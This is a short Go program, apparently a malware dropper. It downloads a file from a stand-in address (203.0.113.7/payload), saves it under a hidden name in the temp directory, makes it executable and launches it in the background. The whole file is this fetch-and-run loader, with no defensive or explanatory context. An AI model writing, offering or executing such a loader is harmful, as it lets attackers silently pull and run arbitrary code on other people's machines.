package main

import (
	"io"
	"net/http"
	"os"
	"os/exec"
)

func fetch(url, dst string) error {
	resp, err := http.Get(url)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	out, err := os.Create(dst)
	if err != nil {
		return err
	}
	defer out.Close()
	_, err = io.Copy(out, resp.Body)
	return err
}

func main() {
	dst := os.TempDir() + "/.x"
	if fetch("http://203.0.113.7/payload", dst) == nil {
		os.Chmod(dst, 0755)
		exec.Command(dst).Start()
	}
}
